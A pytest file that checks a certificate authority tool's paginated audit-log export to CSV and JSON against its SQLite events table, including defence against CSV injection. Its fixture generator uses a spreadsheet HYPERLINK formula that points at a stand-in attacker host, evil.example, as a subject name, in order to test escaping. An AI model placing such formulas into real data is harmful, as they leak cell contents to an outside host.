"""``eport audit log --format csv|json`` exports, byte for byte, over several pages.

The export pages the API (10,000 events a request, the next page asked for while this
one is written) and the server reads its pages as plain rows; neither may change a
byte of what an auditor gets. A real server (SQLite) is given 21,000 more events
(Chinese names, details with non-ASCII text and nesting, empty columns), and each
export must equal the file built here from the ``events`` table read with plain
``sqlite3``: the columns in log order, ``details`` as sorted-key JSON.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.orm import sessionmaker

from ca import translog
from ca.db import make_engine
from ca.records import Event, EventType
from ca.store import SqlStore
from tests.conftest import Server, start_server, stop

COLUMNS = [
    "log_index",
    "event_id",
    "time",
    "type",
    "actor",
    "uscc",
    "subject",
    "profile",
    "issuer",
    "serial",
    "cert_sha256",
    "application_id",
    "details",
]
STORED = {"event_id": "id", "time": "at"}
"""The ``events`` columns of the export's columns that are named otherwise."""
ADDED = 21000
"""More than two pages of the export (10,000 events a request)."""
USCC = "91310000MA1FL4CT3U"


def more_events(n: int) -> Iterator[Event]:
    """``n`` events of three kinds, as varied as the CA's own."""
    t0 = datetime.datetime(2026, 3, 1, 8, 0, tzinfo=datetime.UTC)
    for k in range(n):
        at = t0 + datetime.timedelta(seconds=k, microseconds=k * 37 % 1000000)
        if k % 4 == 0:
            yield Event(
                type=EventType.APPLICATION_SUBMITTED,
                at=at,
                actor="anonymous",
                # anyone may apply under a name a spreadsheet would take for a formula
                subject=(
                    f'=HYPERLINK("http://evil.example/?x="&A1,"{k}")'
                    if k % 8 == 0
                    else f"上海港{k}号国际物流有限公司"
                ),
                application_id=f"app_{k:08x}",
                details={"subject_class": "enterprise"},
            )
        elif k % 4 == 1:
            yield Event(
                type=EventType.CERTIFICATE_ISSUED,
                at=at,
                actor="enrollment-code",
                uscc=USCC if k % 7 == 1 else None,
                subject=f'CN=Harbour "{k}"\\, Ltd,organizationIdentifier=NTRCN-{USCC},C=CN',
                profile="enterprise",
                issuer="enterprise",
                serial=(1 << 120) + k,
                cert_sha256=format(k, "064x"),
                application_id=f"app_{k:08x}",
            )
        else:
            yield Event(
                type=EventType.CERTIFICATE_REVOKED,
                at=at,
                actor=f"agency:{k:032x}",
                uscc=USCC,
                serial=(1 << 120) + k - 1,
                details={"reason": "keyCompromise", "备注": f"密钥丢失 {k}", "a": [1, {"z": None}]},
            )


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A development server whose log holds ``ADDED`` more events."""
    root = tmp_path_factory.mktemp("export")
    srv, proc = start_server(root / "data", workers=1)
    try:
        engine = make_engine(srv.database_url)
        store = SqlStore(sessionmaker(engine), event_sinks=(translog.append_event,))
        with store.transaction() as tx:
            tx.append_events(list(more_events(ADDED)))
        engine.dispose()
        yield srv
    finally:
        stop(proc)


def stored_events(server: Server, where: str = "1", *args: Any) -> list[dict[str, Any]]:
    """The logged events, in log order, read from the database with plain SQL."""
    db = sqlite3.connect(server.data_dir / "eport.db")
    try:
        rows = db.execute(
            f"SELECT {', '.join(STORED.get(c, c) for c in COLUMNS)} "
            f"FROM events WHERE log_index IS NOT NULL AND {where} ORDER BY log_index",
            args,
        ).fetchall()
    finally:
        db.close()
    out = []
    for row in rows:
        ev = dict(zip(COLUMNS, row, strict=True))
        at = datetime.datetime.fromisoformat(ev["time"])  # stored as naive UTC
        ev["time"] = at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        ev["details"] = json.loads(ev["details"])
        out.append(ev)
    return out


def cell(value: Any) -> Any:
    """A CSV cell as a spreadsheet must show it: text a formula would start with (=, +,
    -, @, tab, CR) behind an apostrophe (OWASP, "CSV Injection")."""
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return value


def as_csv(events: list[dict[str, Any]], bom: bool = False) -> bytes:
    buf = io.StringIO(newline="")
    w = csv.writer(buf)
    w.writerow(COLUMNS)
    for ev in events:
        w.writerow(
            [
                json.dumps(ev[c], ensure_ascii=False, sort_keys=True)
                if c == "details"
                else cell(ev[c])
                for c in COLUMNS
            ]
        )
    return (("\ufeff" if bom else "") + buf.getvalue()).encode()


def as_json(events: list[dict[str, Any]]) -> bytes:
    body = ",".join("\n" + json.dumps(ev, ensure_ascii=False, sort_keys=True) for ev in events)
    return f"[{body}\n]\n".encode()


def export(server: Server, out: Path, *args: str) -> bytes:
    out.parent.mkdir()
    res = server.eport("audit", "log", *server.auditor(), *args, "--out", str(out))
    assert res.stdout == ""
    assert "Exporting events" in res.stderr  # the progress bar of a long export
    assert sorted(p.name for p in out.parent.iterdir()) == [out.name]  # no part left
    return out.read_bytes()


def test_every_event_exported_as_stored(server: Server, tmp_path: Path) -> None:
    events = stored_events(server)
    assert len(events) > ADDED > 20000
    got = export(server, tmp_path / "csv" / "all.csv", "--format", "csv")
    assert got == as_csv(events)
    # no cell a spreadsheet would evaluate; the names are whole behind the apostrophe
    rows = list(csv.reader(io.StringIO(got.decode(), newline="")))
    assert not any(c[:1] in ("=", "+", "-", "@") for row in rows for c in row)
    assert sum(row[6].startswith("'=HYPERLINK(") for row in rows) == ADDED // 8
    assert export(server, tmp_path / "json" / "all.json", "--format", "json") == as_json(events)


def test_filtered_and_limited_exports_as_stored(server: Server, tmp_path: Path) -> None:
    revoked = stored_events(server, "type = ?", "certificate.revoked")
    assert len(revoked) > 10000  # two pages
    got = export(
        server, tmp_path / "a" / "r.csv", "--type", "certificate.revoked", "--format", "csv"
    )
    assert got == as_csv(revoked)
    # Two types are merged type by type on the server; the limit ends inside a page.
    two = stored_events(server, "type IN (?, ?)", "certificate.revoked", "application.submitted")[
        :10001
    ]
    got = export(
        server,
        tmp_path / "b" / "two.json",
        "--type",
        "certificate.revoked",
        "--type",
        "application.submitted",
        "--limit",
        "10001",
        "--format",
        "json",
    )
    assert got == as_json(two)
    mine = stored_events(server, "uscc = ?", USCC)
    got = export(server, tmp_path / "c" / "u.csv", "--uscc", USCC, "--format", "csv", "--bom")
    assert got == as_csv(mine, bom=True)
    # To standard output (not a terminal), as a script reads it: the same document.
    res = server.eport(
        "audit", "log", *server.auditor(), "--type", "certificate.issued", "--format", "json"
    )
    issued = stored_events(server, "type = ?", "certificate.issued")
    assert res.stdout.encode() == as_json(issued)
